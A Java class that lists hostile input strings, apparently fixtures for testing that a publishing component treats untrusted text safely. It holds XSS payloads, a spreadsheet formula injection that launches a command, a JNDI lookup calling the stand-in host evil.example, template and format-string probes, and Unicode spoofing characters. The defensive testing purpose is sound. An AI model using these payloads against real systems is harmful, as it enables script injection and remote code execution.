package io.ashiato.publish;

import java.util.List;

/// Texts that would do harm where one is not shown as text.
final class HostileText {
    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg/onload=alert(1)>",
            "</title></style></svg></pre><script>",
            "javascript:alert(1)",
            "[link](http://evil.example/) ![x](http://evil.example/x.png)",
            "http://evil.example/a?b=c&d=<e> www.evil.example a@evil.example <http://evil.example>",
            "``` ` ``code`` ~~~ ````",
            "# heading\n## more\r\n- list\n\n1. one",
            "a | b || c \\| d \\\\| e",
            "_em_ *em* **strong** __strong__ ~~gone~~ &lt;b&gt; &#60;script&#62;",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "  =1",
            "\u202Egpj.exe\u202C \u2066x\u2069 \u200B\u200D\uFEFF\u00AD",
            "line\u2028separator\u2029paragraph\u0085next",
            "nul\u0000 esc\u001B[31m bel\u0007 del\u007F",
            "lone \uD800 and \uDFFF surrogates \uFFFE",
            "Z\u0338\u0337\u0336\u0335\u0334\u0333\u0332a\u0301\u0300\u0302\u0303\u0304lgo",
            "\uDB40\uDC41\uDB40\uDC42 tags \u3164 filler \u2800 braille",
            "x".repeat(40_000),
            "{0} {1} ${jndi:ldap://evil.example/a} {{7*7}} %s %n",
            "",
            " ",
            "カ\u3099 NFD か\u3099");

    private HostileText() {}
}
